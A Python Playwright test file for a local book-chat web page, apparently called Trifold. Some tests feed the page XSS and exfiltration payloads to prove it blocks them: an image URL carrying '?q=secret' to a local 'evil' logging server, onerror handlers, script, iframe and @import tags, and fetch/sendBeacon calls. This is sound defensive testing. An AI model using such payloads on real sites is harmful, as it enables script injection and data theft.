"""The page in states that a real model reaches by luck: hostile text, failures, two tabs, locked and broken books."""

from __future__ import annotations

import hashlib
import http.server
import threading
import uuid
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.e2e.gallery import SCHEMES
from tests.e2e.scripted_server import WARNING
from tests.e2e.steps import (
    PHONE,
    Open,
    Server,
    answer_length,
    answered,
    ask,
    chat_is_shown,
    clean_page,
    give_text,
    has_read,
    last_answer,
    questions,
    read_text,
    reload,
    unfold_settings,
    until,
    versions,
    writing,
)

# Text and surface of the page, of which every pair must be told apart by weak eyes (WCAG AA: 4.5, large text 3).
CONTRAST = """
() => {
  const parse = (c) => c.match(/[\\d.]+/g).map(Number);
  const light = (c) => {
    const line = (v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    const [r, g, b] = c.slice(0, 3).map((v) => line(v / 255));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = (e) => {
    for (; e; e = e.parentElement) {
      const c = parse(getComputedStyle(e).backgroundColor);
      if (c.length < 4 || c[3] > 0.9) return c;
    }
    return [255, 255, 255];
  };
  const poor = [];
  const written = '#trifold :is(p, h1, h2, h3, button, span, li, output, small, div.under)';
  for (const e of document.querySelectorAll(written)) {
    if (!e.checkVisibility({opacityProperty: true, visibilityProperty: true}) || e.disabled) continue;
    if (![...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim())) continue;
    if (e.closest('#page-letters')) continue; // its words are to be seen in the picture below
    const style = getComputedStyle(e);
    const [a, b] = [light(parse(style.color)), light(ground(e))].sort((x, y) => y - x);
    const needed = parseFloat(style.fontSize) >= 24 ? 3 : 4.5;
    const ratio = (a + 0.05) / (b + 0.05);
    if (ratio < needed) poor.push([e.tagName, e.className, e.textContent.trim().slice(0, 30), ratio].join(' '));
  }
  return poor;
}
"""


@pytest.fixture
def evil() -> Iterator[tuple[str, list[str]]]:
    """Another server on this machine that notes whoever comes: its address and the notes."""
    visits: list[str] = []

    class Noting(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            visits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", visits
        server.shutdown()


def with_book(page: Page, text: str = "A book") -> None:
    read_text(page, text)
    clean_page(page)


def test_text_of_a_model_fetches_nothing_and_runs_nothing(page: Page, evil: tuple[str, list[str]]) -> None:
    address, visits = evil
    with_book(page)
    hostile = (
        f"See ![chart]({address}/a.png?q=secret) <img src={address}/b.png onerror=window.hit=1> "
        f"<script>window.hit=1</script> [r]: {address}/c ![x][r] [click]({address}/d) "
        f"<style>@import '{address}/e'</style>"
        f" <iframe src={address}/f></iframe> <b class=under>bold</b>"
    )
    ask(page, f">>>{hostile}<<<")
    answered(page)
    shown = last_answer(page)
    assert "an image at 127.0.0.1, not loaded" in shown
    assert "<script>window.hit=1</script>" in shown
    assert "click (127.0.0.1)" in shown
    assert page.locator("#chat .prose :is(img, iframe, script, style, b)").count() == 0
    assert page.evaluate("window.hit") is None
    page.wait_for_timeout(300)
    assert visits == []


def test_the_policy_holds_even_if_text_got_through(
    browser: Browser, scripted: Server, evil: tuple[str, list[str]]
) -> None:
    """The wall behind the wall: the browser itself refuses what a script or an image of another host would do."""
    address, visits = evil
    page = browser.new_page()
    page.route("**/*.js", lambda route: route.abort())  # the policy comes with the page; its scripts take seconds
    page.goto(scripted.login_address())
    page.wait_for_selector("#trifold")
    page.evaluate(
        """(address) => {
          const probe = document.createElement('div');
          probe.innerHTML = `<img src="${address}/i"><img src=x onerror="window.hit=1">`;
          document.body.append(probe);
          const script = document.createElement('script');
          script.textContent = 'window.hit = 1';
          document.body.append(script);
          const frame = document.createElement('iframe');
          frame.src = address + '/frame';
          document.body.append(frame);
          return fetch(address + '/f', {mode: 'no-cors'}).catch(() => navigator.sendBeacon(address + '/b', 'x'));
        }""",
        address,
    )
    page.wait_for_timeout(500)
    assert visits == []
    assert page.evaluate("window.hit") is None
    page.close()


def test_a_title_and_a_file_name_are_only_words(page: Page) -> None:
    give_text(page, "A <img src=x onerror=window.hit=1> title", "<b>n</b><script>window.hit=1</script>.txt")
    page.wait_for_selector('#trifold[data-stage="ready"]')
    until(page, lambda: "<img" in page.inner_text("#book-title"))
    assert page.locator("#book-head img, #books img:not(.cover img), #books script").count() == 0
    assert page.evaluate("window.hit") is None


def test_a_stranger_is_told_in_one_sentence(browser: Browser, scripted: Server) -> None:
    page = browser.new_page()
    answer = page.goto(scripted.address)
    assert answer is not None
    assert answer.status == 401
    assert "Start Trifold again: it then opens the page." in page.inner_text("body")
    page.close()


def test_another_tab_sees_an_answer_grow_and_can_take_over(page: Page, scripted: Server, open_page: Open) -> None:
    """And what it asks goes on when it is closed, where the first tab can stop it."""
    with_book(page)
    ask(page, "A long question")
    writing(page)
    second = open_page(scripted, beside=page)
    second.wait_for_selector('#trifold[data-asking="yes"]')
    writing(second)
    at = second.get_attribute("#chat .bot .caret", "class")
    until(second, lambda: len(second.inner_text("#chat .bot .caret").split()) >= 3)
    assert second.get_attribute("#chat .bot .caret", "class") == at, "it was laid out again for that"
    ask(second, "Me too?")
    second.wait_for_selector("#chat .trouble")
    assert "Another question is being answered" in second.locator("#chat .trouble").inner_text()
    assert second.input_value("#ask-box textarea") == "Me too?"
    second.get_by_role("button", name="Stop that answer and ask mine").click()
    until(second, lambda: "Me too?" in second.locator("#chat .user").last.inner_text())
    answered(second)
    assert "Maren Holt" in last_answer(second)
    answered(page)
    until(page, lambda: questions(page) == 2)
    ask(second, "A long question")
    writing(second)
    second.close()
    writing(page)
    said = last_answer(page)
    until(page, lambda: len(last_answer(page)) > len(said) + 20)
    page.bring_to_front()
    page.click("#stop")
    answered(page)
    assert "stopped" in page.locator("#chat .under").last.inner_text()


def test_an_answer_goes_on_while_its_page_is_loaded_again(page: Page, scripted: Server) -> None:
    """And the page takes it up: its words, its being this tab's own, and the figures of all of it."""
    with_book(page)
    ask(page, f"Say slowly >>>{' '.join(f'w{number}' for number in range(1, 17))}<<<")
    until(page, lambda: "w3" in last_answer(page))
    reload(page)
    page.wait_for_selector('#trifold[data-mine="yes"]')
    assert page.locator("#stop").is_visible()
    until(page, lambda: "w8" in last_answer(page))
    page.goto("about:blank")
    page.wait_for_timeout(1000)
    page.goto(scripted.address)
    answered(page)
    assert last_answer(page).split()[:16] == [f"w{number}" for number in range(1, 17)]
    assert page.locator("#chat .under").last.inner_text().startswith("16 words")


def test_a_failure_is_a_sentence_with_the_button_that_mends_it(page: Page) -> None:
    with_book(page)
    ask(page, "First, a good one")
    answered(page)
    clean_page(page)
    ask(page, "Now fail")
    page.wait_for_selector("#chat .trouble")
    assert page.inner_text("#chat .trouble") == "The memory of this machine ran out. Read fewer pages."
    answered(page)
    page.get_by_role("button", name="Ask again").click()
    until(page, lambda: versions(page) == ["‹ 2 / 2 ›"])
    answered(page)
    assert page.locator("#chat .user").count() == 1


def test_books_that_need_something(page: Page) -> None:
    # No data folder knows this text yet. The password of a known book is remembered, and so are its chosen pages.
    new = uuid.uuid4().hex
    give_text(page, f"LOCKED book {new}")
    page.wait_for_selector("#password", state="visible")
    assert "This book is locked." in page.inner_text("#password-form")
    page.fill("#password", "wrong")
    page.keyboard.press("Enter")
    until(page, lambda: "not its password" in page.inner_text("#password-words"))
    page.fill("#password", "lamp")
    page.keyboard.press("Enter")
    page.wait_for_selector('#trifold[data-stage="ready"]')
    assert page.inner_text("#hint-said") == WARNING

    give_text(page, f"HUGE book {new}")
    page.wait_for_selector("#choose-form", state="visible")
    assert "too long" in page.inner_text("#choose-words")
    page.fill("#choose-first", "5")
    page.fill("#choose-last", "44")
    page.click("#choose-form button")
    page.wait_for_selector('#trifold[data-stage="ready"]')
    assert page.inner_text("#book-line").startswith("pages 5 to 44")

    give_text(page, "BROKEN book")
    page.wait_for_selector("#trouble-cause", state="visible")
    assert page.inner_text("#card [role=alert] p") == "This file is no book. Choose a PDF, an EPUB or a text file."
    assert page.inner_text("#trouble-mend") == "Choose another book"


def test_a_second_book_does_not_stop_the_first_one_unasked(page: Page) -> None:
    slow = '#trifold[data-stage="reading"]'
    give_text(page, "Book A slow one")
    page.wait_for_selector(slow)
    give_text(page, "Book The second", "second.txt")
    page.wait_for_selector("#confirm[open]")
    assert page.inner_text("#confirm-question") == "“A slow one” is still being read."
    page.keyboard.press("Escape")
    give_text(page, "Book The second", "second.txt")
    page.get_by_role("button", name="Only add it to the library").click()
    second = f'#books button.open[data-id="{hashlib.sha256(b"Book The second").hexdigest()}"]'
    page.wait_for_selector(second)
    assert page.locator(slow).count() == 1
    page.click(second)
    page.get_by_role("button", name="Open it now").click()
    page.wait_for_selector('#trifold[data-stage="ready"]')
    assert page.inner_text("#book-title") == "The second"
    ask(page, "A long question")
    writing(page)
    give_text(page, "Book The third", "third.txt")
    page.wait_for_selector("#confirm[open]")
    assert page.inner_text("#confirm-question") == "An answer is being written."
    page.get_by_role("button", name="Open it now").click()
    until(page, lambda: page.inner_text("#book-title") == "The third")
    until(page, lambda: page.locator("#chat .user").count() == 0)  # the chat is drawn in its own time
    ask(page, "A long question")
    writing(page)
    give_text(page, "Book The fourth", "fourth.txt")
    page.wait_for_selector("#confirm[open]")
    page.evaluate("document.querySelector('#stop').click()")  # or the answer ends while the person thinks
    until(page, lambda: page.inner_text("#book-title") == "The fourth")
    assert page.locator("#confirm[open]").count() == 0, "there is nothing left to ask"


def test_several_files_are_read_together_and_asked_one_by_one(page: Page) -> None:
    """They are offered once, and nothing else is asked; each is there with its own pages; none is lost. A question to
    each of them has a row for each.
    """
    page.evaluate(
        """() => {
          const dataTransfer = new DataTransfer();
          for (const name of ['one', 'two', 'three']) {
            dataTransfer.items.add(new File([`SHORT Dropped ${name}`], `${name}.txt`));
          }
          document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
        }"""
    )
    page.wait_for_selector("#offer[open]")
    page.uncheck("#offer-files input >> nth=1")
    assert page.inner_text("#offer-question") == "2 of 3 documents"
    page.click("#offer button[value=together]")
    until(page, lambda: page.locator("#documents li").count() == 2)
    until(page, lambda: page.inner_text("#book-title") == "Dropped one + Dropped three")
    assert page.locator("#map-documents span").all_inner_texts() == ["Dropped one", "Dropped three"]
    until(page, lambda: page.locator("[data-stage=ready]").count() == 1)
    page.click("#documents li:nth-child(2) button[title='Move up']")
    until(page, lambda: page.locator("#documents .title").all_inner_texts() == ["Dropped three", "Dropped one"])
    until(page, lambda: page.locator("[data-stage=unread]").count() == 1)  # until something is asked
    assert page.get_by_text("Ask several…").count() == 0
    assert [
        one.text_content() for one in page.locator("button:has-text('Ask each document…')").all() if one.is_visible()
    ] == ["Ask each document…"]
    page.click("#open-each")
    assert page.evaluate("document.activeElement.id") == "each-question"
    page.keyboard.type("A long question")
    page.keyboard.press("Enter")
    for press in ("#each-stop", "#each-on", "#each-stop"):
        page.click(press)  # what is stopped is asked again, and stopped
    until(page, lambda: page.inner_text("#each-line") == "0 of 2 documents answered")
    page.fill("#each-question", "Who kept the north light?")
    page.keyboard.press("Enter")
    until(page, lambda: page.inner_text("#each-line") == "2 of 2 documents answered")
    assert page.locator("#each-rows th").all_inner_texts() == ["Dropped three", "Dropped one"]
    answers = page.locator("#each-rows .answer > div").all_inner_texts()
    assert answers == ["Maren Holt kept the north light, and nobody after her."] * 2
    page.wait_for_selector('#trifold[data-asking="no"]')
    page.click("#each-close")
    page.click("#documents li:nth-child(1) button[title='Leave out']")
    until(page, lambda: page.inner_text("#book-title") == "Dropped one")
    until(page, lambda: page.locator("#books .title", has_text="Dropped one +").count() == 0)  # no twin is left
    ask(page, "Who kept the north light?")
    answered(page)


def test_a_file_that_did_not_arrive_is_told_beside_the_password(page: Page) -> None:
    give_text(page, "LOCKED book once more")
    page.wait_for_selector("#password", state="visible")
    give_text(page, "", "nothing.txt")
    page.wait_for_selector("#trouble-cause", state="visible")
    assert page.inner_text("#trouble-cause") == "nothing.txt is empty."
    assert page.inner_text("#password-words") == "This book is locked."
    page.click("#trouble-close")
    page.wait_for_selector("#trouble-cause", state="hidden")
    assert page.locator("#password").is_visible()


def test_a_file_chosen_before_the_scripts_have_come_is_taken(page: Page) -> None:
    text = "Book Chosen early"
    held: list[Route] = []
    page.route("**/ui/main.js", lambda route: held.append(route))
    page.reload(wait_until="commit")
    page.wait_for_selector("#file", state="attached")
    give_text(page, text)
    until(page, lambda: bool(held))
    held[0].continue_()
    page.unroute_all()
    has_read(page, text.encode())
    chat_is_shown(page)


def test_nothing_jumps_while_an_answer_streams(page: Page) -> None:
    with_book(page)
    ask(page, "A long question")
    writing(page)
    boxes = []
    for _ in range(12):
        boxes.append([page.locator(part).bounding_box() for part in ("#ask-row", "#figures", "#map")])
        page.wait_for_timeout(100)
    assert all(box == boxes[0] for box in boxes)
    page.click("#stop")
    answered(page)
    assert "stopped" in page.locator("#chat .under").last.inner_text()


def test_an_answer_is_made_as_the_page_says_and_else_as_the_model_does(page: Page) -> None:
    """What the model says of its sampling is used until the person chooses."""
    read_text(page, "Words of a lamplighter to sample from")
    clean_page(page)
    unfold_settings(page)
    heat, words = page.get_by_label("number input for Temperature"), page.locator("[data-setting=temperature] button")
    assert (heat.input_value(), words.inner_text(), words.is_enabled()) == ("0.6", "the model's own", False)
    assert page.get_by_label("number input for Repetition penalty").input_value() == "1", "it says nothing of this"
    assert not page.locator("[data-setting=repetition_penalty] button").is_visible()
    quotes = page.get_by_label("Quote only what stands in the book")
    heat.fill("0.9")
    heat.press("Tab")
    quotes.check()
    ask(page, "Which settings?")
    answered(page)
    assert "hierarchical, temperature 0.9, at most 4096 tokens, exact quotes True" in last_answer(page)
    assert words.inner_text() == "use the model's own"
    ask(page, "Are there no quotes?")
    until(page, lambda: not page.locator("[data-setting=exact_quotes]").is_visible())
    answered(page)
    ask(page, "Which settings?")
    answered(page)
    assert "exact quotes None" in last_answer(page), "what is not offered is not asked for"
    words.click()
    assert (heat.input_value(), words.is_enabled()) == ("0.6", False)
    answer_length(page, 256)
    page.click("#how > button")
    page.click("#mode input[value='plain']")
    ask(page, "Which settings now?")
    answered(page)
    assert "plain, temperature None, at most 256 tokens" in last_answer(page)
    page.click("#mode input[value='hierarchical']")
    quotes.uncheck()
    answer_length(page, 4096)


def test_an_answer_that_ran_in_a_loop_says_so_and_can_go_on(page: Page) -> None:
    read_text(page, "Words of a lamplighter who goes round and round")
    clean_page(page)
    ask(page, "Is this a loop?")
    answered(page)
    assert "it only repeated itself" in page.locator("#chat .under").last.inner_text()
    page.locator("#chat button.action.main").last.click()
    until(page, lambda: "It goes round and round and round and round and at last it ended." in last_answer(page), 10.0)


def test_a_new_chat_waits_for_the_end_of_the_answer(page: Page) -> None:
    with_book(page)
    ask(page, "A long question")
    writing(page)
    page.click("#begin-chat")
    said = "An answer is being written. Stop it, or wait for its end."
    until(page, lambda: page.text_content("#toast") == said)
    assert questions(page) == 1
    page.click("#stop")
    answered(page)
    page.click("#begin-chat")
    until(page, lambda: questions(page) == 0)


def test_the_chat_before_is_gone_before_gradio_has_the_next_one(page: Page) -> None:
    """The answer about one book stood for a second below the first line of another."""
    with_book(page)
    ask(page, "Who kept the north light?")
    answered(page)
    rows = page.locator("#chat .message-row")
    assert rows.last.is_visible(), "it is there as soon as it is drawn"
    held: list[Route] = []
    page.route("**/gradio_api/run/predict", lambda route: held.append(route))
    page.click("#begin-chat")
    until(page, lambda: bool(held) and page.get_attribute("#trifold", "data-turns") == "none")
    assert not any(row.is_visible() for row in rows.all())
    for route in held:
        route.continue_()
    page.unroute("**/gradio_api/run/predict")
    chat_is_shown(page)


@pytest.mark.parametrize("name", ["page", "phone"])
def test_everything_can_be_read(request: pytest.FixtureRequest, name: str) -> None:
    page: Page = request.getfixturevalue(name)
    with_book(page)
    ask(page, "Who kept the north light?")
    answered(page)
    for scheme in SCHEMES:
        page.emulate_media(color_scheme=scheme)
        page.wait_for_selector(f'html[data-theme="{scheme}"]')
        page.wait_for_timeout(300)
        assert page.evaluate(CONTRAST) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.locator("footer:not(#columns footer)").count() == 0, "Gradio's"


def test_on_a_phone_books_and_figures_are_behind_buttons(phone: Page) -> None:
    page = phone
    with_book(page)
    for name, button in (("#shelf", "#open-shelf"), ("#figures", "#open-figures")):
        assert not page.locator(name).is_visible()
        page.click(button)
        page.locator(name).wait_for(state="visible")
        assert page.get_attribute(button, "aria-expanded") == "true"
        page.keyboard.press("Escape")
        page.locator(name).wait_for(state="hidden")
    chat, box = page.locator("#chat").bounding_box(), page.locator("#ask-row").bounding_box()
    assert chat is not None
    assert box is not None
    assert chat["y"] + chat["height"] <= box["y"]
    assert box["y"] + box["height"] <= PHONE[1]


def test_keys_and_the_choice_of_light_or_dark(page: Page) -> None:
    page.emulate_media(color_scheme="light")
    with_book(page)
    page.fill("#ask-box textarea", "One")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    assert page.input_value("#ask-box textarea") == "One\ntwo"
    assert page.locator("#chat .user").count() == 0
    page.keyboard.press("Enter")
    answered(page)
    page.click("#theme")
    assert page.get_attribute("html", "data-theme") == "dark"
    reload(page)
    page.wait_for_selector("#chat .bot .prose")
    assert page.get_attribute("html", "data-theme") == "dark"
    assert page.evaluate("document.body.classList.contains('dark')")
    page.keyboard.press("Tab")
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
    page.evaluate("localStorage.removeItem('trifold-theme')")


def test_parts_are_called_what_they_are_and_what_is_not_there_is_not_shown(page: Page) -> None:
    """Sections of a book; figures without a draft model; as the live stream would bring them.

    The last test of the file, because the page shows what is not."""
    with_book(page)
    ask(page, "Who kept the north light?")
    answered(page)
    until(page, lambda: page.locator('[data-bar="middle"]').is_visible())  # figures come more seldom than words
    page.evaluate(
        """async () => {
          const none = {share: 0, text: ''};
          const level = {share: 0.9, text: '90 %'};
          const split = [{part: 'verify', share: 1, text: '100 %'}];
          const figures = {mode: 'hierarchical', middle: none, verify: level, split, kv: []};
          (await import('/ui/frame.js')).showModel({state: 'ready', line: 'M', detail: '', parts: [], draft: false});
          (await import('/ui/figures.js')).showFigures(figures);
          const choose = {sentence: 'Too long.', unit: 'section', pages: 124, first: 1, last: 90};
          (await import('/ui/books.js')).showBook({stage: 'choosing', title: 'T', choose});
        }"""
    )
    assert not page.locator('[data-bar="middle"]').is_visible()
    assert page.locator('[data-bar="verify"]').is_visible()
    assert page.locator("#split-key li").all_inner_texts() == ["whole book\n100 %"]
    assert page.inner_text("#choose-form .tf-line").split() == ["Sections", "to", "Read", "these", "sections"]
